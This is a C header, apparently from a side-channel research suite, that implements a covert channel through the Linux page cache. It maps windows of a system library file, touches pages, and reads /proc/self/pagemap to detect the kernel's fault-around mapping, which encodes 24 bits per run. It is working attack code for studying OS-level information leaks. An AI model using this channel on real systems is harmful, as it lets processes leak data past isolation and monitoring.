// A channel by pages of the system's files: one run makes the kernel read some pages of an unused
// file, and the next run touches their neighbours. The kernel then maps nearby pages that are in
// memory, and /proc/self/pagemap shows which: mincore and RWF_NOWAIT are not needed.
#pragma once

#include <dirent.h>
#include <sys/mman.h>

#include "attack.h"

enum { kWindow = 16, kBits = 24, kToldPage = 5, kPattern = 0xB4D5C3 };

static const char* const kept_in[] = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu",
                                      "/usr/lib64", "/usr/lib", "/usr/bin"};

static inline int is_mapped(const char* page) {
  uint64_t entry = 0;
  static int map = -1;
  if (map < 0) map = open("/proc/self/pagemap", O_RDONLY);
  pread(map, &entry, sizeof entry, (off_t)((uintptr_t)page / kPageBytes * sizeof entry));
  return (int)(entry >> 63);
}

// Returns which of the pages are in memory; -1 if the file is too small.
static inline long look_at_pages(const char* path, char** windows) {
  struct stat status;
  const int file = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK);
  const size_t size = (size_t)kWindow * kBits * kPageBytes;
  long bits = 0;
  *windows = MAP_FAILED;
  if (file < 0) return -1;
  if (fstat(file, &status) == 0 && S_ISREG(status.st_mode) && status.st_size > (off_t)(4 * size)) {
    off_t at = status.st_size / 2 / (off_t)(kWindow * kPageBytes) * (off_t)(kWindow * kPageBytes);
    // Aligned, since the kernel maps aligned ranges of nearby pages.
    char* place =
        mmap(NULL, size + kWindow * kPageBytes, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    place +=
        (kWindow * kPageBytes - (uintptr_t)place % (kWindow * kPageBytes)) % (kWindow * kPageBytes);
    *windows = mmap(place, size, PROT_READ, MAP_PRIVATE | MAP_FIXED, file, at);
  }
  close(file);
  if (*windows == MAP_FAILED) return -1;
  madvise(*windows, size, MADV_RANDOM);
  for (int i = 0; i < kBits; ++i) {
    char* window = *windows + (size_t)i * kWindow * kPageBytes;
    *(volatile char*)window;
    bits |= (long)is_mapped(window + kToldPage * kPageBytes) << i;
  }
  return bits;
}
